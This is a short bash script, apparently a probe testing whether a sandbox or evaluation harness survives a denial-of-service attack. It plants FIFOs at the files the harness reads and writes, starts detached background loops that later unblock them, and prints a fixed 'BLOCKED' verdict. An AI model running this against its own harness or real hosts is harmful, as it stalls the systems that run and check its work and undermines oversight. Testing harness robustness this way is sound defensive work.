#!/bin/bash
# Attack (denial of service) on the host's file API: leave FIFOs where the harness will read or write
# files. An open() of a FIFO blocks until the other end is opened: every host thread that tries is stuck.
# $1 = seconds after which we open the other ends ourselves (so a vulnerable host recovers).
mkfifo /workspace/result.txt /workspace/solution.py
setsid bash -c "sleep $1; (while :; do echo done > /workspace/result.txt; done) & (while :; do cat /workspace/solution.py >/dev/null; done) & wait" </dev/null >/dev/null 2>&1 &
echo "VERDICT: BLOCKED"
